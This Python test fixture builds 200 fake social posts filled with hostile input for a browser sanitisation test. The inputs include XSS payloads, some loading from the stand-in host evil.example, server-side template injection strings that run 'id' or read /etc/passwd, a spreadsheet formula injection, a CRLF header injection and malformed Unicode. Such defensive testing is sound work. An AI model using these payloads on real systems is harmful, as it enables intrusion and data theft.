"""What people with bad intent, odd keyboards or broken software post: 200 posts, none of which may do anything.

Whatever would run sets `window.__pwned`, opens a dialog or asks another host for something; the browser test looks
for all three.
"""

from __future__ import annotations

from collections.abc import Iterator

from listener.core.mention import Author, Post
from listener.testing import START

RUN = "window.__pwned=1"
AWAY = "//evil.example/p"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT\t>{RUN}</SCRIPT\n>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src={AWAY}.gif>",
    f"<image xlink:href={AWAY}.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>click</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=https:{AWAY}></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src={AWAY}.swf>",
    f"<form action=https:{AWAY}><button id=b>Win</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<base href=https:{AWAY}/>",
    f"<meta http-equiv=refresh content='0;url=https:{AWAY}'>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=prefetch href={AWAY}>",
    f"<style>@import '{AWAY}.css'; body{{display:none}}</style>",
    f'<div style="background:url({AWAY}.png)">x</div>',
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>covered</div>",
    f"<math><mtext></mtext><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<?xml version='1.0'?><x onload={RUN}/>",
    f"<a href='javascript:{RUN}'>refund</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>refund</a>",
    f"<x contenteditable onblur={RUN} autofocus tabindex=1>",
    f"<p popover id=main ontoggle={RUN}>",
    '<div id="live" data-every="0"></div>',
    '<main id="main"><details id="how-1" open></details></main>',
    f"</bdi></a></h2><img src=x onerror={RUN}>",
    f"</div></article></main><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
)

BREAKOUTS = (
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}',
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"` onload=`{RUN}",
    f'" style="animation-name:x" onanimationstart="{RUN}',
    f'\\"><img src=x onerror={RUN}>',
    f'"/><svg/onload={RUN}//',
    f'"-{RUN}-"',
    f"'-{RUN}-'",
    f"\\'-{RUN}//",
    f"${{{RUN}}}",
    f"</title><script>{RUN}</script>",
)

TEMPLATES = (
    "{{7*7}}", "{{ 7*'7' }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "@(7*7)", "{#", "{{config}}",
    "{% raw %}x{% endraw %}", "{% include '/etc/passwd' %}", "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "%s%s%n%x", "{0.__class__}", "$(id)", "`id`", "v-on:click='x'",
)  # fmt: skip

SCRIPTS = (
    "\u202e\u202dReversed acme \u202e drawkcab",
    "\u2066\u2067\u2068 isolates never closed",
    "\u200b\u200c\u200d\ufeff nothing to see",
    "مرحبا acme، المنتج معطّل! 100% שלום",
    "שלום \u202eacme <b>bold</b>\u202c",
    "Z̷̢̛͚a̸͝l̶g̴ò̵ " + "a" + "\u0301" * 400,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 40,
    "\U000e0041\U000e0042 tag characters \ufff9anchor\ufffaannotation\ufffb",
    "NUL\x00in\x00the\x00middle",
    "bell\x07 escape\x1b[31mred\x1b[0m backspace\x08\x08",
    "lone \ud800 surrogate and \udfff another",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.__pwned=1</script>",
    "line\u2028separator\u2029paragraph\x85next",
    "\xff\xfe\xfd latin \x9b31m csi",
    "＜script＞window.__pwned=1＜/script＞",
    "acme" + "W" * 15_000,
    "x" * 25_000,
    " ".join("acme" for _ in range(3_000)),
    "\n" * 500 + "acme at the bottom" + "\n" * 500,
    "<" * 5_000,
    "&" * 5_000,
    "<div>" * 3_000,
    "(" * 200 + "acme" + "[.*+?^${}()|\\" * 50,
    "=cmd|' /C calc'!A0",
    "@everyone <!channel> <@U123> [x](javascript:window.__pwned=1)",
    "a\u0300\u0301" * 3_000,
    "ﷺ" * 500,
    "𒐫" * 300,
)

LINKS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", "file:///etc/passwd", "//evil.example/x",
    f"https://evil.example/\" onmouseover=\"{RUN}", f"https://evil.example/'><script>{RUN}</script>",
    f"https://evil.example/\njavascript:{RUN}", "http://", "https://[::1", "https://x@acme.example:99999/",
    f"blob:https://evil.example/{RUN}", "view-source:https://acme.example", "https://аcme.example/",
)  # fmt: skip

WHOLE = 200


def texts() -> Iterator[str]:
    """Every hostile text."""
    yield from MARKUP
    yield from BREAKOUTS
    yield from TEMPLATES
    yield from SCRIPTS


def posts() -> tuple[Post, ...]:
    """200 posts with hostile text in every field a stranger fills, each in another combination."""
    every = tuple(texts())
    return tuple(_post(n, every) for n in range(WHOLE))


def _post(n: int, every: tuple[str, ...]) -> Post:
    """The first round puts each text into the text, later ones into the other fields."""

    def nth(step: int) -> str:
        return every[(n * step + step) % len(every)]

    whole = every[n % len(every)]
    return Post(
        source="fake",
        external_id=f"{n}{nth(7)}",
        realm=nth(11)[:200],
        url=LINKS[n % len(LINKS)],
        author=Author(handle=nth(3), name=nth(5) if n % 3 else "", url=LINKS[(n + 5) % len(LINKS)], followers=n),
        title=nth(13) if n % 2 else "",
        text=f"{whole}\nacme is broken {n}" if n < len(every) else f"acme broken {nth(17)}",
        published_at=START,
        rating=(None, 0.0, 0.5)[n % 3],
        in_reply_to=nth(19),
        root=nth(23) if n % 2 else None,
    )  # fmt: skip
